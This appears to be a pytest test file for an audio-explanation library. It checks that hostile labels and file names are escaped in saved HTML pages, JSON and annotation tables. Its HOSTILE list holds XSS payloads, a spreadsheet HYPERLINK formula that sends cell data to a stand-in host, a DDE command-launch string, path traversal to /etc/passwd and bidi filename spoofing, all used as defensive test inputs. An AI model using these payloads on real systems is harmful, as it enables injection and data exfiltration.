"""Labels and names come from strangers' folders: on the page, in JSON and in tables they are text and nothing else.

Every hostile text goes the real way: as label, clip name, classifier name, prototype label and clip id, through
`Explanation.save`. The page of a hostile text has the same elements and attributes as that of a harmless one.
"""

import csv
import io
import json
import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests.hardening.test_state import apex_on, noise, odd_module, wrap_odd
from tests.store import examples

from earmark.audio.names import printable
from earmark.store.explanations import load_explanation, save_explanations
from earmark.store.tables import RAVEN_COLUMNS, audacity_labels, harmless, raven_table
from earmark.types import Region

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)//",
    "<!-- <script> -->",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;b&gt;&amp;\\u003cscript\\u003e",
    '=HYPERLINK("http://evil.example/?"&A1,"dog")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "  =1+1",
    '"=1+1"',
    '"\t=1+1',
    "dog\tbark\t9\t9",
    "dog\n2\tSpectrogram 1\t1\t0\t9\t0\t9\tfake\t1",
    "dog\r\n0\t9\tfake",
    "nul\x00byte\x1b[31m\x85\u2028\u2029",
    "yard\u202egpj.exe\u2066",
    "\u200b=1+1",
    "\ufeff=1+1",
    "lone \udcff\udc80 surrogates \ud800",
    "..",
    "../../etc/passwd",
    "con",
    "a/b\\c:d|e?f*g",
    "x" * 300,
    "\U00020000" * 300,
    "e\u0301\u0302" * 60,
    "",
    " ",
]
IDS = [f"{i}" for i in range(len(HOSTILE))]


class Structure(HTMLParser):
    """The elements of a page with the names of their attributes, its handlers, and its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.elements, self.addresses, self.handlers, self.text = Counter(), [], [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements[tag, tuple(name for name, _ in attrs)] += 1
        self.handlers += [(name, value) for name, value in attrs if name.startswith("on")]
        self.addresses += [value or "" for name, value in attrs if name in ("src", "href", "action", "srcdoc")]

    def handle_data(self, data):
        self.text.append(data)


def told(text):
    """An explanation in which everything that can be named is named by this text."""
    labels = (text, f"{text}2", "rain")
    explanation = examples.explanation("prototypes", examples.noise(0.3, 8000, 1), name=printable(text), labels=labels)
    evidence = explanation.evidence
    channels = tuple(
        replace(c, prototypes=tuple(replace(p, clip_id=text, path=text, label=text, group=text) for p in c.prototypes))
        for c in evidence.channels
    )
    provenance = replace(explanation.provenance, classifier=text, config={"note": text})
    return replace(explanation, evidence=replace(evidence, channels=channels), provenance=provenance)


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    folder = tmp_path_factory.mktemp("plain")
    told("dog").save(folder)
    return Structure((folder / "index.html").read_text(encoding="utf-8"))


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_pages_hold_texts_and_no_more(tmp_path, plain, text):
    told(text).save(tmp_path / "out")
    page = Structure((tmp_path / "out" / "index.html").read_text(encoding="utf-8"))
    assert page.elements == plain.elements
    assert page.handlers == plain.handlers
    assert [a for a in page.addresses if not a.startswith(("data:", "#"))] == [
        a for a in plain.addresses if not a.startswith(("data:", "#"))
    ]
    if text.isprintable() and text.strip():
        assert text in "".join(page.text)  # escaped, not lost

    about = json.loads((tmp_path / "out" / "explanation.json").read_text(encoding="utf-8"))
    assert about["target"]["label"] == about["prediction"]["labels"][0] == text
    loaded = load_explanation(tmp_path / "out")
    assert loaded.target.label == text
    assert loaded.evidence.channels[0].prototypes[0].clip_id == text
    check_raven((tmp_path / "out" / "regions.raven.txt").read_bytes(), len(loaded.regions()))
    check_audacity((tmp_path / "out" / "regions.audacity.txt").read_bytes(), len(loaded.regions()))


FORMULA = tuple("=+-@\t\r＝＋－＠")


def check_raven(content, n_rows):
    """The table as a spreadsheet reads it (with quotation marks) and as Raven does (without)."""
    text = content.decode("utf-8")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="\t", quoting=quoting))
        assert tuple(rows[0]) == RAVEN_COLUMNS
        assert len(rows) == 1 + n_rows
        for i, row in enumerate(rows[1:], 1):
            assert len(row) == len(RAVEN_COLUMNS)
            assert row[0] == str(i)
            assert not row[7].lstrip().startswith(FORMULA)
            assert row[7].isprintable()
            assert float(row[4]) >= float(row[3])


def check_audacity(content, n_rows):
    lines = content.decode("utf-8").split("\n")
    assert lines.pop() == ""
    assert len(lines) == 2 * n_rows
    for label, band in zip(lines[::2], lines[1::2], strict=True):
        assert len(label.split("\t")) == 3
        assert not label.split("\t")[2].startswith(FORMULA)
        mark, low, high = band.split("\t")
        assert mark == "\\" and float(low) <= float(high)


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_tables_read_back_whole(text):
    regions = [Region(0.1, 0.2, 100.0, 200.0, 1.5, text), Region(0.3, 0.4, 100.0, 200.0, -1.5, "")]
    check_raven(raven_table(regions, text).encode("utf-8"), 2)
    check_audacity(audacity_labels(regions, text).encode("utf-8"), 2)


def test_a_label_in_quotation_marks_is_no_formula():
    """A spreadsheet drops the marks and reads the rest, or takes all up to the next mark for one cell."""
    assert harmless('"=1+1"') == "'=1+1'"
    assert harmless('"dog') == "'dog"
    assert '"' not in raven_table([Region(0, 1, 0, 1, 1.0, 'the "dog"')])


@pytest.mark.parametrize("text", HOSTILE, ids=IDS)
def test_clip_names_can_be_shown(text):
    """File names that are no text, or turn the order of text around, are shown with escapes."""
    name = printable(text)
    assert name.isprintable()
    shown = "".join(c for c in text if c.isprintable())
    if shown == text:
        assert name == text
    else:
        assert re.sub(r"\\(u[0-9a-f]{4}|x[0-9a-f]{2}|[trn])", "", name) == shown
    name.encode("utf-8")


def test_several_hostile_labels_lie_in_folders_of_their_own(tmp_path):
    explanations = []
    for text in dict.fromkeys(t for t in HOSTILE if t.strip()):
        explanation = examples.explanation("mask", examples.noise(0.1, 8000, 1), labels=(text, "rain"))
        explanations.append(explanation)
    places = save_explanations(explanations, tmp_path / "out", page=False)
    assert len({str(place).casefold() for place in places}) == len(explanations)
    for place, explanation in zip(places, explanations, strict=True):
        assert place.parent == tmp_path / "out"
        assert place.resolve().parent == (tmp_path / "out").resolve()
        assert len(place.name.encode("utf-8")) <= 240
        assert load_explanation(place).target.label == explanation.target.label
    index = Structure((tmp_path / "out" / "index.html").read_text(encoding="utf-8"))
    assert not index.handlers
    assert ("img", ("src", "onerror")) not in index.elements
    assert not [a for a in index.addresses if a.lower().startswith(("javascript:", "http"))]


def test_hostile_labels_go_through_a_classifier(tmp_path):
    labels = ["<script>alert(1)</script>", '=HYPERLINK("x")', "dog\tbark\n"]
    from earmark.classifiers.wrap import wrap

    plain = wrap_odd(odd_module())
    classifier = wrap(
        plain.module, plain.front_end, labels, map_layer="features", feature_axes="CFT", probe_s=0.5, name="<b>odd"
    )
    explanation = apex_on(classifier).explain(noise(), labels[0], name="yard\u202e\udcff.wav")
    assert explanation.name == "yard\\u202e\\udcff.wav"
    explanation.save(tmp_path / "out")
    page = Structure((tmp_path / "out" / "index.html").read_text(encoding="utf-8"))
    assert not page.handlers
    assert all("alert(1)" not in address for address in page.addresses)
    assert load_explanation(tmp_path / "out").prediction.labels == tuple(labels)


def test_undecodable_file_names_are_read_and_explained(tmp_path):
    """A file name of bytes that are no text, as an old system leaves it."""
    import os

    try:
        path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/yard-\xff\xfe.wav"))
        noise().save(tmp_path / "yard.wav").rename(path)
    except OSError:
        pytest.skip("this file system takes text only")
    import earmark as em

    apex = apex_on(wrap_odd(odd_module()))
    explanation = apex.explain(em.Clip(path.name, path), "a")
    explanation.save(tmp_path / "out", page=False)
    assert load_explanation(tmp_path / "out").name == "yard-\\udcff\\udcfe.wav"
